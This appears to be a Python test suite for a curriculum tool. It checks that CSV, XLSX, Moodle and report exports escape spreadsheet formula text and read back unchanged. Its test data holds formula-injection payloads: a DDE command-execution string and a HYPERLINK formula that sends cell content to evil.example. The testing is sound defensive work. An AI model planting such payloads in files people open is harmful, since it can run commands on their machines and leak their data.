"""Exports that open safely: text a spreadsheet would evaluate gets a quote, never a formula.

Every CSV and XLSX writer (the contract tables, masked or not, the Moodle framework, stored
paths, batch, scores and the agency workbook) is fed text that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return (the OWASP rule). The file must hold no formula
and no such text unescaped, and reading it back must give the original text.
"""

from __future__ import annotations

import csv
import zipfile
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree

import pytest
from openpyxl import Workbook, load_workbook

from curriculum_tool.catalog import create_workspace
from curriculum_tool.domain import RECORD_TYPES, LearnerPath, PathStep
from curriculum_tool.io import parse_file
from curriculum_tool.io.cell_escape import FORMULA_STARTS, escape_cell, unescape_cell, xlsx_value
from curriculum_tool.io.masking import mask_name, mask_record
from curriculum_tool.io.moodle import read_moodle
from curriculum_tool.io.tables import read_rows, write_rows
from curriculum_tool.recommend.batch import STEP_COLUMNS, run_batch
from curriculum_tool.store import Workspace

#: Text a spreadsheet evaluates, one per formula start, plus quoted text (the bijection).
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "'=1+2",
)
#: Starts that imports strip (cells are trimmed), so only an edit can store them; they are
#: checked for escaping, not for a round trip (XML, too, reads a CR as a line feed).
CONTROLS = ("\t=1+2", "\r=1+2", "\t@x", "\r-1")
TEXTS = {"formulas": FORMULAS, "controls": CONTROLS}
#: The free-text fields of each contract kind.
TEXT_FIELDS = {
    "competencies": ("name", "description"),
    "modules": ("title", "owner"),
    "regions": ("name",),
    "regional_standards": ("reason",),
    "job_standards": ("title",),
    "learners": ("name", "unit"),
    "obligations": ("regulation",),
}
SUFFIXES = (".csv", ".xlsx")
NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
#: The name of the workspace file becomes the Moodle framework's name.
WORKSPACE_NAME = "=1+2 @agency.sqlite"


def poison(workspace, texts: tuple[str, ...]) -> None:
    """Give every free-text field of every record one of ``texts``: record ``i``'s field
    ``j`` gets ``texts[(i + j) % n]``, so each field of a kind with enough rows holds
    every text."""
    with workspace.transaction() as conn:
        for kind, fields in TEXT_FIELDS.items():
            records = [
                replace(
                    record, **{field: texts[(i + j) % len(texts)] for j, field in enumerate(fields)}
                )
                for i, record in enumerate(workspace.load(kind, conn))
            ]
            workspace.write(conn, kind, records)


def _poisoned(tmp_path_factory, texts: tuple[str, ...]) -> Path:
    """The default catalog, poisoned with ``texts``, with a stored path for every learner."""
    path = tmp_path_factory.mktemp("poisoned") / WORKSPACE_NAME
    with create_workspace(path) as workspace:
        poison(workspace, texts)
        run_batch(workspace, path.parent / "seed.jsonl")
    return path


@pytest.fixture(scope="module")
def formulas(tmp_path_factory) -> Path:
    return _poisoned(tmp_path_factory, FORMULAS)


@pytest.fixture(scope="module")
def controls(tmp_path_factory) -> Path:
    return _poisoned(tmp_path_factory, CONTROLS)


@pytest.fixture(params=["formulas", "controls"])
def poisoned(request) -> tuple[Path, tuple[str, ...]]:
    """Each poisoned workspace in turn, with the texts it holds (read-only)."""
    return request.getfixturevalue(request.param), TEXTS[request.param]


def opened(path: Path) -> Workspace:
    return Workspace.open(path)


# -- what an exported file holds ------------------------------------------------------


def csv_cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def xlsx_cells(path: Path) -> list[str]:
    """Every text cell of every sheet, read from the package's XML; asserts on the way that
    no cell is a formula, a formula's result or an error."""
    texts = []
    with zipfile.ZipFile(path) as package:
        names = package.namelist()
        shared = []
        if "xl/sharedStrings.xml" in names:
            root = ElementTree.fromstring(package.read("xl/sharedStrings.xml"))
            shared = [
                "".join(t.text or "" for t in item.iter(f"{NS}t")) for item in root.iter(f"{NS}si")
            ]
        sheets = [n for n in names if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets
        for name in sheets:
            root = ElementTree.fromstring(package.read(name))
            assert not list(root.iter(f"{NS}f")), f"{name} holds a formula"
            for cell in root.iter(f"{NS}c"):
                kind = cell.get("t", "n")
                assert kind in ("n", "s", "inlineStr"), f"{name}: a cell of type {kind}"
                if kind == "inlineStr":
                    texts.append("".join(t.text or "" for t in cell.iter(f"{NS}t")))
                elif kind == "s":
                    texts.append(shared[int(cell.find(f"{NS}v").text)])
    return texts


def cells_of(path: Path) -> list[str]:
    """The text cells of an export; asserts that none begins with a formula character."""
    cells = xlsx_cells(path) if path.suffix == ".xlsx" else csv_cells(path)
    unsafe = [cell for cell in cells if cell and cell[0] in FORMULA_STARTS]
    assert not unsafe, f"{path.name}: unescaped {unsafe[:3]}"
    return cells


def as_written(text: str, suffix: str) -> str:
    """``text`` as an export holds it (XML reads a carriage return as a line feed)."""
    escaped = escape_cell(text)
    return escaped.replace("\r", "\n") if suffix == ".xlsx" else escaped


def assert_holds(path: Path, texts) -> None:
    """The export is safe and holds each of ``texts``, escaped."""
    cells = set(cells_of(path))
    missing = {text for text in texts if as_written(text, path.suffix) not in cells}
    assert not missing, f"{path.name} lacks {sorted(missing)[:3]}"


def texts_of(records, fields) -> set[str]:
    return {getattr(record, field) for record in records for field in fields} - {"", None}


# -- the helper itself -----------------------------------------------------------------


def test_xlsx_value_types_text_as_text_and_leaves_numbers():
    sheet = Workbook(write_only=True).create_sheet("x")
    for text in (*FORMULAS, *CONTROLS, "#N/A", "#REF!", "Budi"):
        cell = xlsx_value(sheet, text)
        assert (cell.value, cell.data_type) == (escape_cell(text), "s")
    assert [xlsx_value(sheet, v) for v in (12, 0.5, None)] == [12, 0.5, None]


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_write_rows_never_writes_a_formula_or_an_error_cell(tmp_path, suffix):
    out = tmp_path / f"t{suffix}"
    texts = (*FORMULAS, *CONTROLS, "#N/A", "#DIV/0!", "plain", "")
    rows = [{"text": text, "n": str(i)} for i, text in enumerate(texts)]
    assert write_rows(out, ("text", "n"), rows, numeric=["n"]) == len(texts)
    assert_holds(out, texts)
    if suffix == ".xlsx":  # the numeric column stays numbers
        book = load_workbook(out, read_only=True)
        assert [r[1] for r in book.active.iter_rows(min_row=2, values_only=True)] == list(
            range(len(texts))
        )
        book.close()


# -- the contract tables ----------------------------------------------------------------


@pytest.mark.parametrize("suffix", SUFFIXES)
@pytest.mark.parametrize("kind", RECORD_TYPES)
def test_table_exports_escape_every_text(poisoned, run_cli, tmp_path, kind, suffix):
    path, texts = poisoned
    for unmask in (True, False):
        out = tmp_path / f"{kind}-{unmask}{suffix}"
        code, _, err = run_cli("export", path, kind, out, *(["--unmask"] * unmask))
        assert (code, err) == (0, "")
        with opened(path) as workspace:
            records = workspace.load(kind)
            secret = workspace.get_meta("pseudonym_key") or ""
        if kind in ("learners", "outcomes") and not unmask:
            records = [mask_record(r, secret) for r in records]
        shown = texts_of(records, TEXT_FIELDS.get(kind, ()))
        assert_holds(out, shown)
        if kind in ("modules", "learners") and unmask:
            assert shown == set(texts)  # every text went through this writer


def test_masked_names_are_escaped_too(formulas, run_cli, tmp_path):
    for suffix in SUFFIXES:
        out = tmp_path / f"learners{suffix}"
        assert run_cli("export", formulas, "learners", out)[0] == 0
        cells = set(cells_of(out))
        masked = {escape_cell(mask_name(text)) for text in FORMULAS}
        assert {"'=***", "'+***", "'-***", "'@***", "'***"} <= masked <= cells


@pytest.mark.parametrize("suffix", SUFFIXES)
@pytest.mark.parametrize("kind", TEXT_FIELDS)
def test_table_exports_read_back_to_the_original_text(formulas, run_cli, tmp_path, kind, suffix):
    with opened(formulas) as workspace:
        records = workspace.load(kind)
        secret = workspace.get_meta("pseudonym_key") or ""
    for unmask in (True, False):
        out = tmp_path / f"{kind}-{unmask}{suffix}"
        assert run_cli("export", formulas, kind, out, *(["--unmask"] * unmask))[0] == 0
        expected = (
            records if unmask or kind != "learners" else [mask_record(r, secret) for r in records]
        )
        parsed = parse_file(kind, out)
        assert parsed.problems == []
        assert parsed.records == expected


# -- Moodle ---------------------------------------------------------------------------


def test_moodle_export_escapes_every_text(poisoned, run_cli, tmp_path):
    path, texts = poisoned
    out = tmp_path / "framework.csv"
    assert run_cli("export", path, "moodle", out)[0] == 0
    with opened(path) as workspace:
        names = {c.name for c in workspace.load("competencies")}
    assert names == set(texts)
    assert_holds(out, names | {Path(WORKSPACE_NAME).stem})  # the framework's own name


def test_moodle_export_reads_back_to_the_original_text(formulas, run_cli, tmp_path):
    out = tmp_path / "framework.csv"
    assert run_cli("export", formulas, "moodle", out)[0] == 0
    [parsed] = read_moodle(out, out.name)
    assert parsed.problems == []
    with opened(formulas) as workspace:
        assert parsed.records == workspace.load("competencies")


# -- stored paths, batch, scores --------------------------------------------------------


def crafted_paths(texts: tuple[str, ...]) -> list[LearnerPath]:
    """Paths whose learner and module cells hold ``texts`` (the writer does not check that
    they are codes)."""
    return [
        LearnerPath(
            learner=text,
            position="p",
            region="r",
            steps=(
                PathStep(
                    module=text,
                    title=text,
                    period=1,
                    jp=8,
                    modality="klasikal",
                    p_success=0.5,
                    value=0.25,
                ),
            ),
        )
        for text in texts
    ]


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_paths_export_escapes_learner_and_module(poisoned, run_cli, tmp_path, monkeypatch, suffix):
    path, texts = poisoned
    monkeypatch.setattr("curriculum_tool.store.paths.load_paths", lambda conn: crafted_paths(texts))
    out = tmp_path / f"paths{suffix}"
    assert run_cli("export", path, "paths", out, "--unmask")[0] == 0
    assert_holds(out, texts)


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_paths_export_reads_back_to_the_original_text(
    formulas, run_cli, tmp_path, monkeypatch, suffix
):
    monkeypatch.setattr(
        "curriculum_tool.store.paths.load_paths", lambda conn: crafted_paths(FORMULAS)
    )
    out = tmp_path / f"paths{suffix}"
    assert run_cli("export", formulas, "paths", out, "--unmask")[0] == 0
    rows = [row for _, row in read_rows(out, STEP_COLUMNS)]
    assert [(r["learner"], r["module"]) for r in rows] == [(t, t) for t in FORMULAS]


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_batch_output_is_safe_and_reads_back(poisoned, run_cli, tmp_path, suffix):
    path, _ = poisoned
    out = tmp_path / f"batch{suffix}"
    assert run_cli("batch", path, "--out", out, "--unmask", "--no-store")[0] == 0
    cells_of(out)
    with opened(path) as workspace:
        learners = {learner.id for learner in workspace.load("learners")}
        modules = {module.code for module in workspace.load("modules")}
    rows = [row for _, row in read_rows(out, STEP_COLUMNS)]
    assert {row["learner"] for row in rows} == learners
    assert {row["module"] for row in rows} <= modules


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_score_output_is_safe_and_reads_back(formulas, run_cli, write_csv, tmp_path, suffix):
    with opened(formulas) as workspace:
        learners = [learner.id for learner in workspace.load("learners")[:3]]
        modules = [module.code for module in workspace.load("modules")[:2]]
    pairs = [{"learner": learner, "module": module} for learner in learners for module in modules]
    out = tmp_path / f"scores{suffix}"
    code, _, err = run_cli(
        "score", formulas, write_csv("pairs.csv", ("learner", "module"), pairs), "--out", out
    )
    assert (code, err) == (0, "")
    cells_of(out)
    rows = [row for _, row in read_rows(out, ("learner", "module", "p_success"))]
    assert [{"learner": r["learner"], "module": r["module"]} for r in rows] == pairs


# -- the agency workbook ----------------------------------------------------------------


def workbook_rows(path: Path, sheet: str) -> list[dict]:
    book = load_workbook(path, read_only=True)
    try:
        rows = list(book[sheet].iter_rows(values_only=True))
    finally:
        book.close()
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def test_agency_workbook_escapes_every_text(poisoned, run_cli, tmp_path):
    path, _ = poisoned
    with opened(path) as workspace:
        learners = workspace.load("learners")
        modules = workspace.load("modules")
    for unmask in (True, False):
        out = tmp_path / f"summary-{unmask}.xlsx"
        assert run_cli("report", path, "--out", out, *(["--unmask"] * unmask))[0] == 0
        names = {learner.name if unmask else mask_name(learner.name) for learner in learners}
        assert_holds(out, names)
        titles = {row["Judul"] for row in workbook_rows(out, "Per Modul")}
        assert titles and titles <= {as_written(m.title, ".xlsx") for m in modules}


def test_agency_workbook_text_unescapes_to_the_original(formulas, run_cli, tmp_path):
    out = tmp_path / "summary.xlsx"
    assert run_cli("report", formulas, "--out", out, "--unmask")[0] == 0
    with opened(formulas) as workspace:
        names = {learner.id: learner.name for learner in workspace.load("learners")}
        titles = {module.code: module.title for module in workspace.load("modules")}
        regions = {region.code: region.name for region in workspace.load("regions")}
        positions = {}
        for job in workspace.load("job_standards"):
            positions.setdefault(job.position, set()).add(job.title)
    people = workbook_rows(out, "Per Pegawai")
    assert len(people) == len(names)
    for row in people:
        assert unescape_cell(row["Nama"]) == names[row["Pegawai"]]
        assert unescape_cell(row["Nama Wilayah"]) == regions[row["Wilayah"]]
        assert unescape_cell(row["Nama Jabatan"]) in positions[row["Jabatan"]]
    for row in workbook_rows(out, "Per Modul"):
        assert unescape_cell(row["Judul"]) == titles[row["Modul"]]
    assert {unescape_cell(row["Nama"]) for row in people} == set(FORMULAS)
